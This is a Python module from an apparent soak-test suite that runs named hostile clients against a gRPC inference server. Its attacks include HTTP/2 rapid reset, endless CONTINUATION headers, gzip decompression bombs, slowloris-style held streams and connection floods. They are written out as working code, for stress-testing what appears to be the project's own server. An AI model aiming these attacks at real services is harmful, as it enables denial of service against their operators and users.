"""Hostile clients by name. Each is a function that attacks an address until its time is over.

    python -m benchmarks.soak.attackers KIND ADDRESS [--seconds 10] [--scale 1]

Each attack runs in a process of its own with a lower priority, so that it does not take the server's CPU time. Calls
that the server refuses are tried again, at most ``RETRIES_PER_S`` times per second. Prints the counts as JSON.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import math
import os
import random
import resource
import signal
import struct
import subprocess
import time
import zlib
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import partial
from typing import Any

import grpc
import grpc.aio
from grpc_health.v1 import health_pb2

from benchmarks import http2
from benchmarks.honest import make_request
from benchmarks.http2 import CHECK, INFER, PREDICT, STREAM_INFER, WATCH, Connection, encode_call, frame, message
from benchmarks.processes import list_command, make_environment

RETRIES_PER_S = 2000
CONNECTS_PER_S = 500
TICK_S = 0.02
DRAWN = random.Random(0)  # noqa: S311
NICE = 10
MIB = 1024 * 1024
LARGE = 31 * MIB  # just within the default of --max-request-bytes
BOMB_BYTES = 8 * 1024 * MIB
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
LIVE = "/inference.GRPCInferenceService/ServerLive"


@dataclass
class Attack:
    """One attack.

    Attributes:
        address: HOST:PORT.
        seconds: Duration.
        scale: Size relative to the size that the benchmark uses.
        limit: Number of watches after which the attack ends.
        counts: What the attack did, and the results.
    """

    address: str
    seconds: float
    scale: float
    limit: float = math.inf
    counts: Counter[str] = field(default_factory=Counter)
    stopped: bool = False

    def __post_init__(self) -> None:
        self._until = time.monotonic() + self.seconds
        self._connects = self._retries = 0.0
        self._parent = os.getppid()  # an attack ends with the process that started it
        self._ticked = time.monotonic()

    def size(self, count: int) -> int:
        """Scale a count; at least 1."""
        return max(1, round(count * self.scale))

    def over(self) -> bool:
        """Whether the attack must end. Also updates how many calls are allowed since the last query."""
        now = time.monotonic()
        passed, self._ticked = min(0.1, now - self._ticked), now
        self._connects += passed * CONNECTS_PER_S
        if self._retries < RETRIES_PER_S:
            self._retries += passed * RETRIES_PER_S
        spent = now >= self._until or self.counts["watches"] >= self.limit
        return spent or self.stopped or os.getppid() != self._parent

    def begin_with(self, calls: float) -> None:
        """Allow this many calls at once, and afterwards only retries."""
        self._retries = calls

    def may_call(self) -> bool:
        """Whether one more call may be opened now."""
        if self._retries < 1:
            return False
        self._retries -= 1
        return True

    def connect(self, **options: Any) -> Connection | None:
        """Open a new connection; None if it is too early for one or the server refuses it."""
        if self._connects < 1:
            return None
        self._connects = min(self._connects, CONNECTS_PER_S) - 1
        try:
            opened = Connection(self.address, obey=False, **options)
        except OSError as error:
            self.counts[f"not connected: {type(error).__name__}"] += 1
            return None
        self.counts["connections"] += 1
        return opened

    def count(self, ended: list[http2.Ended]) -> None:
        """Count how calls ended."""
        names = {http2.RESET: "reset", http2.CLOSED: "closed", http2.UNREADABLE: "unreadable"}
        for call in ended:
            self.counts[names.get(call.status, f"status {call.status}")] += 1


def hold(
    attack: Attack,
    size: tuple[int, int],
    begin: Callable[[Connection], int],
    tick: Callable[[Connection], None] = lambda connection: None,
    read: bool = True,
    **options: Any,
) -> None:
    """Keep connections with calls in a state that never ends. Calls that the server ends are opened again.

    Args:
        attack: The attack.
        size: Number of connections, and of calls on each.
        begin: Opens a call and returns its stream.
        tick: Called for each connection from time to time.
        read: Whether to read what the server sends.
        options: Options of the connections.
    """
    connections, calls = size
    held: list[Connection] = []
    attack.begin_with(connections * calls)
    while not attack.over():
        while len(held) < connections and (opened := attack.connect(**options)):
            held.append(opened)
        for one in held:
            if read:
                attack.count(one.receive())
            while len(one.open_streams) < calls and not one.going and one.waiting < MIB and attack.may_call():
                begin(one)
                attack.counts["calls"] += 1
            tick(one)
            one.flush()
            if not one.alive or (one.going and not one.open_streams):
                attack.counts["connections lost"] += 1
                one.close()
        held = [one for one in held if one.alive]
        attack.counts["held"] = max(attack.counts["held"], sum(len(one.open_streams) for one in held))
        time.sleep(TICK_S)
    for one in held:
        one.close()


def flood(attack: Attack, connections: int, chunk: Callable[[Connection], bytes], per_s: float, **options: Any) -> None:
    """Send chunks of frames at a rate, over connections that are opened again when the server closes them.

    Args:
        attack: The attack.
        connections: Number of connections.
        chunk: Returns the next bytes for a connection.
        per_s: Chunks per second, over all connections.
        options: Options of the connections.
    """
    held: list[Connection] = []
    started, sent, turn = time.monotonic(), 0, 0
    while not attack.over():
        while len(held) < connections and (opened := attack.connect(**options)):
            held.append(opened)
        due = min(round((time.monotonic() - started) * per_s), sent + 1000)
        while held and sent < due:
            one = held[turn := (turn + 1) % len(held)]
            sent += 1
            if one.alive and not one.going and one.waiting < MIB:
                one.write(chunk(one))
                attack.counts["chunks"] += 1
        for one in held:
            one.flush()
            attack.count(one.receive())
            if not one.alive or one.going:
                attack.counts["connections lost"] += 1
                one.close()
        held = [one for one in held if one.alive]
        time.sleep(TICK_S / 4)
    for one in held:
        one.close()


def ask(attack: Attack, connections: int, per_s: float, block: bytes, data: Callable[[], bytes]) -> None:
    """Send complete requests at a rate, and read the replies.

    Args:
        attack: The attack.
        connections: Number of connections.
        per_s: Requests per second, over all connections.
        block: The headers.
        data: Returns the next request.
    """

    def chunk(one: Connection) -> bytes:
        one.call(block, data())
        return b""

    flood(attack, connections, chunk, per_s)


def unfinished(attack: Attack, path: str, connections: int, calls: int, data: bytes | None) -> None:
    """Open calls whose message never arrives or stays incomplete.

    Args:
        attack: The attack.
        path: Path of the method.
        connections: Number of connections.
        calls: Calls per connection.
        data: The part of the message that is sent; None for nothing.
    """
    block = encode_call(path)
    hold(attack, (attack.size(connections), calls), lambda one: one.call(block, data, end=False))


def slow(attack: Attack) -> None:
    """Send Predict calls at one byte every five seconds."""
    block, data = encode_call(PREDICT), message(make_request())
    dripped: dict[Connection, float] = {}

    def drip(one: Connection) -> None:
        if time.monotonic() - dripped.setdefault(one, time.monotonic()) > 5:
            dripped[one] = time.monotonic()
            for stream in one.open_streams:
                one.send(stream, data[5:6])

    hold(attack, (attack.size(20), 100), lambda one: one.call(block, data[:6], end=False), drip)


def watches(attack: Attack) -> None:
    """Open thirty thousand health watches that stay open."""
    block, data = encode_call(WATCH), message(b"")
    hold(attack, (attack.size(30), 1000), lambda one: one.call(block, data))


def come_and_go(attack: Attack) -> None:
    """Open health watches, then cancel them at once or later, or abandon them with their socket."""
    block, data = encode_call(WATCH), message(b"")

    def chunk(one: Connection) -> bytes:
        drawn = DRAWN.random()
        if drawn < 0.02:  # abandoned
            one.flush()
            one.close()
            return b""
        if len(one.open_streams) > 20 or drawn < 0.4:
            for stream in DRAWN.sample(sorted(one.open_streams), len(one.open_streams) // 2):
                one.reset(stream)
        one.call(block, data)
        attack.counts["watches"] += 1
        return b""

    flood(attack, attack.size(64), chunk, 4000)


def ordinary_watches(attack: Attack) -> None:
    """Open health watches with grpcio's client; end them at once, after a reply, by a deadline or with the channel."""
    request = health_pb2.HealthCheckRequest().SerializeToString()
    alone = (("grpc.use_local_subchannel_pool", 1),)

    async def client() -> None:
        while not attack.over():
            async with grpc.aio.insecure_channel(attack.address, options=alone) as channel:
                watch = channel.unary_stream(WATCH)
                for _ in range(DRAWN.randrange(1, 60)):
                    if attack.over():
                        return
                    call = watch(request, timeout=DRAWN.choice((0.002, 5, 5, 5)))
                    attack.counts["watches"] += 1
                    try:
                        if DRAWN.random() < 0.8:
                            answer = await call.read()
                            attack.counts["answers"] += answer is not grpc.aio.EOF
                    except grpc.RpcError as error:
                        attack.counts[error.code().name] += 1
                    call.cancel()
                watch(request)  # ended with the channel
                attack.counts["watches"] += 1

    async def every() -> None:
        await asyncio.gather(*(client() for _ in range(attack.size(64))))

    asyncio.run(every())


def large(attack: Attack) -> None:
    """Send messages of 31 MB except for their last byte."""
    block, data = encode_call(PREDICT), message(bytes(LARGE - 1), length=LARGE)
    hold(attack, (attack.size(64), 4), lambda one: one.call(block, data, end=False))


def many_large_streams(attack: Attack) -> None:
    """Send the first 60 kB of messages of 31 MB, on thousands of streams."""
    block, data = encode_call(PREDICT), message(bytes(60_000), length=LARGE)
    hold(attack, (attack.size(20), 500), lambda one: one.call(block, data, end=False))


def make_bomb(size: int) -> bytes:
    """Make a gzip of zeros that is a thousandth as long. Its checksum is wrong, which shows only at the end."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    head = packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(16 * MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + block * (size // (16 * MIB)) + packer.flush()


def bomb(attack: Attack, path: str) -> None:
    """Send gzip that inflates to a thousand times its size."""
    size = attack.size(BOMB_BYTES // MIB) * MIB
    block, data = encode_call(path, ("grpc-encoding", "gzip")), message(make_bomb(size), compressed=True)
    attack.counts["bytes"] = len(data)
    hold(attack, (2, 2), lambda one: one.call(block, data))


def unread_window(attack: Attack) -> None:
    """Send small requests without granting a flow-control window for the replies."""
    block, data = encode_call(LIVE), message(b"")
    hold(attack, (attack.size(10), 5000), lambda one: one.call(block, data), window=0)


def unread_predictions(attack: Attack) -> None:
    """Send Predict calls without granting a flow-control window for the replies."""
    block, data = encode_call(PREDICT), message(make_request())
    hold(attack, (attack.size(20), 500), lambda one: one.call(block, data), window=0)


def unread_socket(attack: Attack) -> None:
    """Send small requests over sockets that are never read."""
    block, data = encode_call(LIVE), message(b"")
    hold(attack, (attack.size(50), 5000), lambda one: one.call(block, data), read=False, receive_buffer=2048)


def unread_stream(attack: Attack) -> None:
    """Send endless requests on ModelStreamInfer without reading a reply."""
    block, data = encode_call(STREAM_INFER), message(b"")

    def more(one: Connection) -> None:
        for stream in one.open_streams:
            if one.waiting < MIB // 16:
                one.send(stream, data * 200)

    hold(attack, (attack.size(16), 8), lambda one: one.call(block, data, end=False), more, window=0)


def idle_streams(attack: Attack, path: str) -> None:
    """Open streams and never use them."""
    block = encode_call(path)
    hold(attack, (attack.size(20), 100), lambda one: one.call(block, None, end=False))


def continuations(attack: Attack, endless_value: bool) -> None:
    """Send headers that never end.

    Args:
        attack: The attack.
        endless_value: True for one header of 256 MB. False for headers of one byte each, which stand for 44 bytes
            (RFC 7541, entry 16).
    """
    name, length_2_28, one_byte = b"\x10\x01a", b"\x7f\x81\xff\xff\x7f", b"\x90"
    begin = frame(http2.HEADERS, 0, 1, encode_call(PREDICT) + (name + length_2_28 if endless_value else b""))
    rest = frame(http2.CONTINUATION, 0, 1, (b"v" if endless_value else one_byte) * 16_000)
    begun: set[Connection] = set()

    def chunk(one: Connection) -> bytes:
        if one in begun:
            return rest
        begun.add(one)
        return begin + rest

    flood(attack, attack.size(16), chunk, 2000)


def repeat(attack: Attack, frames: bytes, per_s: float) -> None:
    """Send the same frames repeatedly.

    Args:
        attack: The attack.
        frames: The frames.
        per_s: Repetitions per second.
    """
    flood(attack, attack.size(16), lambda one: frames, per_s)


def rapid_reset(attack: Attack) -> None:
    """Cancel calls as soon as they are sent."""
    block, data = encode_call(PREDICT), message(make_request())

    def chunk(one: Connection) -> bytes:
        one.reset(one.call(block, data))
        return b""

    flood(attack, attack.size(16), chunk, 3000)


def cancelled(attack: Attack) -> None:
    """Cancel calls at each point: after the headers, within the message, after it, and before the reply."""
    block, data = encode_call(PREDICT), message(make_request())

    def chunk(one: Connection) -> bytes:
        for stream in [stream for stream in one.open_streams if DRAWN.random() < 0.2]:
            one.reset(stream)
        part = DRAWN.choice((None, data[:3], data[:5], data[:700], data))
        one.call(block, part, end=part is data and DRAWN.random() < 0.5)
        return b""

    flood(attack, attack.size(16), chunk, 1000)


def connections(attack: Attack, hello: bool) -> None:
    """Open thousands of connections and send nothing.

    Args:
        attack: The attack.
        hello: Whether to send the preface and settings.
    """
    hold(attack, (attack.size(5000), 0), lambda one: 0, hello=hello)


def slow_preface(attack: Attack) -> None:
    """Send the preface at one byte per second."""
    sent: dict[Connection, tuple[float, int]] = {}

    def drip(one: Connection) -> None:
        at, count = sent.get(one, (0.0, 0))
        if time.monotonic() - at > 1 and count < len(http2.PREFACE) - 1:
            one.write(http2.PREFACE[count : count + 1])
            sent[one] = (time.monotonic(), count + 1)

    hold(attack, (attack.size(2000), 0), lambda one: 0, drip, hello=False)


def malformed(attack: Attack) -> None:
    """Send messages that protobuf cannot parse."""
    ask(attack, attack.size(16), 500, encode_call(PREDICT), lambda: message(b"\xff" + DRAWN.randbytes(200)))


def unknown(attack: Attack) -> None:
    """Call a method that does not exist."""
    ask(attack, attack.size(16), 500, encode_call("/evalmode.v1.Classifier/Guess"), lambda: message(b""))


def oversize(attack: Attack) -> None:
    """Send messages of 33 MB, and messages that announce 4 GB."""
    block = encode_call(PREDICT)
    whole, announced = message(bytes(33 * MIB)), message(bytes(1000), length=2**32 - 1)
    hold(attack, (attack.size(8), 2), lambda one: one.call(block, DRAWN.choice((whole, announced)), end=False))


def metadata(attack: Attack) -> None:
    """Send calls with 12 kB of headers, and with 200 kB."""
    small = encode_call(PREDICT, *((f"x-{number}", "v" * 100) for number in range(80)))
    big = encode_call(PREDICT, *((f"x-{number}", "v" * 2000) for number in range(100)))
    data = message(make_request())

    def chunk(one: Connection) -> bytes:
        if DRAWN.random() < 0.9:
            one.call(small, data)
            return b""
        stream = one.take_stream()
        first, *between, last = (big[at : at + http2.LARGEST_FRAME] for at in range(0, len(big), http2.LARGEST_FRAME))
        return b"".join(
            (
                frame(http2.HEADERS, 0, stream, first),
                *(frame(http2.CONTINUATION, 0, stream, part) for part in between),
                frame(http2.CONTINUATION, http2.END_HEADERS, stream, last),
                frame(http2.DATA, http2.END_STREAM, stream, data),
            )
        )

    flood(attack, attack.size(16), chunk, 200)


SETTINGS_FRAME = frame(http2.SETTINGS, 0, 0, struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 70_000))
HALF_REQUEST = message(make_request())[:1500]

KINDS: dict[str, Callable[[Attack], None]] = {
    "predict-headers-one": partial(unfinished, path=PREDICT, connections=1, calls=2000, data=None),
    "predict-headers-many": partial(unfinished, path=PREDICT, connections=100, calls=20, data=None),
    "predict-half": partial(unfinished, path=PREDICT, connections=20, calls=100, data=HALF_REQUEST),
    "predict-slow": slow,
    "health-headers": partial(unfinished, path=CHECK, connections=10, calls=100, data=None),
    "health-half": partial(unfinished, path=CHECK, connections=10, calls=100, data=message(b"", length=20)),
    "watches-open": watches,
    "watches-come-and-go": come_and_go,
    "watches-ordinary": ordinary_watches,
    "large": large,
    "large-streams": many_large_streams,
    "bomb-predict": partial(bomb, path=PREDICT),
    "bomb-infer": partial(bomb, path=INFER),
    "bomb-health": partial(bomb, path=CHECK),
    "unread-window": unread_window,
    "unread-predictions": unread_predictions,
    "unread-socket": unread_socket,
    "unread-stream": unread_stream,
    "streams-idle": partial(idle_streams, path=STREAM_INFER),
    "reflection-idle": partial(idle_streams, path=REFLECTION),
    "continuations": partial(continuations, endless_value=False),
    "continuations-value": partial(continuations, endless_value=True),
    "settings": partial(repeat, frames=SETTINGS_FRAME, per_s=5000),
    "pings": partial(repeat, frames=frame(http2.PING, 0, 0, bytes(8)), per_s=5000),
    "rapid-reset": rapid_reset,
    "cancelled": cancelled,
    "connections-idle": partial(connections, hello=True),
    "connections-silent": partial(connections, hello=False),
    "preface-slow": slow_preface,
    "malformed": malformed,
    "unknown": unknown,
    "oversize": oversize,
    "metadata": metadata,
}


def run(kind: str, address: str, seconds: float, scale: float = 1.0, limit: float = math.inf) -> dict[str, int]:
    """Run an attack in this process.

    Args:
        kind: A key of ``KINDS``.
        address: HOST:PORT.
        seconds: Duration.
        scale: Size relative to the size that the benchmark uses.
        limit: Number of watches after which the attack ends.

    Returns:
        The counts of the attack.
    """
    attack = Attack(address, seconds, scale, limit)
    if __name__ == "__main__":

        def stop(*_: object) -> None:
            attack.stopped = True

        signal.signal(signal.SIGTERM, stop)
    KINDS[kind](attack)
    return dict(attack.counts)


class Attacking:
    """An attack in a process of its own, which ends with the ``with`` block at the latest.

    Args:
        kind: A key of ``KINDS``.
        address: HOST:PORT.
        scale: Size relative to the size that the benchmark uses.
        limit: Number of watches after which the attack ends.

    Attributes:
        counts: The counts of the attack, once it has ended.
    """

    def __init__(self, kind: str, address: str, scale: float = 1.0, limit: float = math.inf) -> None:
        options = ("--seconds", 3600, "--scale", scale, "--watches", limit)
        command = list_command("benchmarks.soak.attackers", kind, address, *options)
        self._process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True, env=make_environment())
        assert self._process.stdout is not None
        self._process.stdout.readline()  # wait until it has started
        self.counts: dict[str, int] = {}

    def __enter__(self) -> Attacking:
        return self

    def __exit__(self, *_: object) -> None:
        self._process.terminate()
        try:
            out, _error = self._process.communicate(timeout=20)
            self.counts = json.loads(out or "{}")
        except subprocess.TimeoutExpired:
            self._process.kill()
            self._process.communicate()

    @property
    def is_over(self) -> bool:
        """Whether the attack has ended by itself."""
        return self._process.poll() is not None


def main() -> None:
    """Run the attack and print its counts."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("address")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--scale", type=float, default=1)
    parser.add_argument("--watches", type=float, default=math.inf, help="after which it is over")
    arguments = parser.parse_args()
    os.nice(NICE)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    print("begun", flush=True)
    print(json.dumps(run(arguments.kind, arguments.address, arguments.seconds, arguments.scale, arguments.watches)))


if __name__ == "__main__":
    main()
